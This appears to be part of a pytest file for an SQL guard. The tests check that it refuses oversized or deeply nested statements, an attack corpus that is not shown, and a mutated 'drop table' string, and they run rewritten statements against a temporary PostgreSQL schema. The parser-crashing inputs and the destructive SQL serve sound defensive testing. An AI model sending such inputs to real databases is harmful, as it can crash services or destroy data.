    with pytest.raises(ValueError, match="schema") as bad:
        check_sql("select 1", schema="public", mode="query")
    assert not isinstance(bad.value, SqlRefused)
    checked = query("select 1")
    with pytest.raises(AttributeError):
        checked.sql = "drop table t"  # type: ignore[misc]


def test_deep_nesting_and_huge_statements_are_refused_not_crashed() -> None:
    with pytest.raises(SqlRefused) as info:
        query("select 1" + " + 1" * 2000)
    assert info.value.code == "too_complex"
    with pytest.raises(SqlRefused) as info:
        query("select " + "- " * 19_990 + "1")
    assert info.value.code == "parse_error"  # PostgreSQL's own parser gives up ("memory exhausted")
    with pytest.raises(SqlRefused) as info:  # past 20,000 tokens: refused before the parser, which crashed on this
        query("select " + "+".join(["1"] * 30_000) + " as s")
    assert info.value.code == "too_complex" and "20,000" in info.value.reason
    with pytest.raises(SqlRefused) as info:  # the lexer's time grows with the square of the comment nesting
        query("select 1 as n " + "/*" * 12_000 + "*/" * 12_000)
    assert info.value.code == "too_complex" and "/*" in info.value.reason
    assert query("select 1 as n /* a /* nested */ comment */").tables == frozenset()
    with pytest.raises(SqlRefused) as info:
        query("select * from t where a in (" + ", ".join(["1"] * 40_000) + ")")
    assert info.value.code == "too_complex"
    # A long but flat statement is fine.
    assert query("select * from t where a in (" + ", ".join(str(i) for i in range(2000)) + ")").tables == {"t"}


def test_the_attack_corpus_is_large() -> None:
    assert len(ATTACKS) >= 70
    assert len({(mode, sql) for mode, sql, _ in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize(("mode", "sql", "code"), ATTACKS, ids=[f"{i}-{a[2]}" for i, a in enumerate(ATTACKS)])
def test_attack_is_refused(mode: str, sql: str, code: str) -> None:
    with pytest.raises(SqlRefused) as info:
        check_sql(sql, schema=S, mode=mode, forbidden_tables=FORBIDDEN)
    assert info.value.code == code, info.value.reason
    assert info.value.reason


async def test_rewritten_statements_run_on_postgresql(database_url: str) -> None:
    from sqlalchemy.engine import make_url
    from sqlalchemy.ext.asyncio import create_async_engine

    schema = f"org_data_guard{uuid.uuid4().hex[:12]}"
    engine = create_async_engine(make_url(database_url).set(drivername="postgresql+asyncpg"))
    try:
        async with engine.connect() as conn:
            await conn.exec_driver_sql(f"CREATE SCHEMA {schema}")
            # Nothing resolves through search_path: every table the guard lets through is qualified.
            await conn.exec_driver_sql("SET search_path TO pg_catalog")

            async def run(sql: str, mode: str = "execute") -> list[tuple[object, ...]]:
                checked = check_sql(sql, schema=schema, mode=mode)
                # exec_driver_sql sends the text as is, without bind-parameter parsing: ':word' stays text.
                result = await conn.exec_driver_sql(checked.sql)
                return [tuple(row) for row in result] if result.returns_rows else []

            await run('create table "客户" ("名称" text not null, "金额" numeric(18,2) default 0, "备注" text)')
            await run('create index on "客户" ("名称")')
            inserted = await run(
                'insert into "客户" ("名称", "金额", "备注") values '
                "('甲', 10, '{\"value\":0.85,\"at\":\"10:30\"}'), ('乙', 20, 'MA20偏离%') returning \"名称\""
            )
            assert inserted == [("甲",), ("乙",)]
            await run('update "客户" set "金额" = "金额" + 1 where "名称" = \'甲\'')
            await run('create view "客户汇总" as select count(*) as "个数", sum("金额") as "合计" from "客户"')
            rows = await run('select "备注" from "客户" order by "金额"', "query")
            assert rows == [('{"value":0.85,"at":"10:30"}',), ("MA20偏离%",)]
            rows = await run('select "备注"::json ->> \'value\' from "客户" where "名称" = \'甲\'', "query")
            assert rows == [("0.85",)]
            rows = await run('with c as (select * from "客户") select "名称", "金额" from c order by 2', "query")
            assert [(name, int(amount)) for name, amount in rows] == [("甲", 11), ("乙", 20)]
            assert [tuple(map(int, r)) for r in await run('select * from "客户汇总"', "query")] == [(2, 31)]
            await run('delete from "客户" where "名称" = \'乙\'')
            rows = await run('select count(*) from "客户"', "query")
            assert rows == [(1,)]
            await conn.rollback()
    finally:
        async with engine.begin() as conn:
            await conn.exec_driver_sql(f"DROP SCHEMA IF EXISTS {schema} CASCADE")
        await engine.dispose()
